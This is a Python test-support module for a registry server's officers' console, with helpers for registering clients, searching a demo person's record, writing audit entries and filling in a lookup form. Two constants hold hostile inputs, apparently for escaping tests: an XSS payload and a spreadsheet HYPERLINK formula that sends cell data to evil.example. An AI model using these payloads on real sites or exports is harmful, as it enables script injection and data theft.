"""What officers look at in the console: clients, searches, audit records and records of a server of `dci serve`."""

from __future__ import annotations

import json
import os
import subprocess
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from dci_cli.aws import OperatorRuntime
from dci_cli.local_server import local_environment
from dci_common.aws.dynamodb import Item
from dci_common.settings import Settings
from support.api import identified
from support.console_browser import settled
from support.console_clients import Clients
from support.events import body_of
from support.oversight import disclosed, withhold
from support.server_process import command, eventually
from support.stored_items import items_of, tests_client

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from support.server_process import ServerProcess

DAY = 86_400
UIN = "847951632"  # of the demo person p0001, of the household h0001
HOSTILE = """"><img src=x onerror="globalThis.hit=1"><script>globalThis.hit=2</script>${hit}'"""
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


@dataclass
class Office:
    """What is put into the server of `manager`. `clients` has the id of each client by its name."""

    manager: Clients
    clients: dict[str, str] = field(default_factory=dict)

    @property
    def server(self) -> ServerProcess:
        """The server."""
        return self.manager.server

    @contextmanager
    def runtime(self) -> Iterator[OperatorRuntime]:
        """Yield what the functions use, at the server's own tables."""
        with local_environment(self.server.credentials_file):
            clients, exchange, audit = (os.environ[f"{name}_TABLE"] for name in ("CLIENTS", "EXCHANGE", "AUDIT"))
            yield OperatorRuntime(Settings(clients_table=clients, exchange_table=exchange, audit_table=audit))

    def register(self, name: str = "", **members: Any) -> str:
        """Register a client, and return its id."""
        named = name or f"Office {uuid.uuid4().hex[:8]}"
        client_id = self.manager.registered(
            name=named, **{"sender_id": "office", "disclosure": ["minimal"]} | members
        )
        self.clients[named] = client_id
        return client_id

    def name_of(self, client_id: str) -> str:
        """Return the name of a client that was registered here."""
        return next(name for name, id_ in self.clients.items() if id_ == client_id)

    def search(self, name: str, uin: str = UIN, **criteria: Any) -> None:
        """Have a client search for a person, and wait until the disclosure is in the history of the person."""
        client_id = self.clients[name]
        token = self.manager.granted(client_id, self.manager.secret(client_id)).json["access_token"]
        message = body_of("search")
        message["header"]["sender_id"] = "office"
        message["message"]["search_request"] = [identified("UIN", uin, **criteria)]
        sent = self.server.send("POST", "/registry/sync/search", message, Authorization=f"Bearer {token}")
        assert sent.status == 200, sent.text
        eventually(lambda: any(item.get("client_id") == {"S": client_id} for item in self.history("PERSON#p0001")))

    def history(self, key: str) -> list[Item]:
        """Return the entries of a record in the index of the audit."""
        with self.runtime() as runtime:
            return items_of(runtime.settings.audit_table, f"RECORD#{key}")

    def audited(self, number: int, *keys: str, is_withheld: bool = False, **more: Any) -> None:
        """Put an audit item of some minutes ago, and that it was withheld if it was."""
        with self.runtime() as runtime:
            item = disclosed(runtime, time.time() - 60 * number, number, *keys, **more)
            if is_withheld:
                withhold(runtime, item)

    def received(self, client_id: str, date: str, records: int) -> None:
        """Put what a client received on a day."""
        item = {"pk": {"S": f"RATE#{client_id}"}, "sk": {"S": f"DAY#{date}"}, "records": {"N": str(records)}}
        with self.runtime() as runtime:
            tests_client().put_item(TableName=runtime.settings.exchange_table, Item=item)

    def put(self, *records: Item) -> None:
        """Have an operator put records by the command line, which is recorded."""
        arguments, variables = command("registry", "put", "-", "--credentials", str(self.server.credentials_file))
        lines = "\n".join(map(json.dumps, records))
        subprocess.run(arguments, env=variables, input=lines, text=True, check=True, capture_output=True)

    def ask(self, client_id: str, person: str = "bayani", **changes: Any) -> str:
        """Have a person ask for a change of a client that waits, and return the id of the approval."""
        path, send = f"/clients/{client_id}", self.manager.send
        tag = send("GET", path, person=person).headers["ETag"]
        asked = send("PATCH", path, changes, person, **{"If-Match": tag})
        assert asked.status == 202, asked.text
        return str(asked.json["approval_id"])


def find(page: Page, identifier: str = UIN, type_: str = "UIN", *, button: str = "Show who saw it") -> None:
    """Fill in the form of a page that finds a record, and send it."""
    page.get_by_label("Type of identifier").fill(type_)
    page.get_by_label("Identifier", exact=True).fill(identifier)
    page.get_by_role("button", name=button).click()
    settled(page)
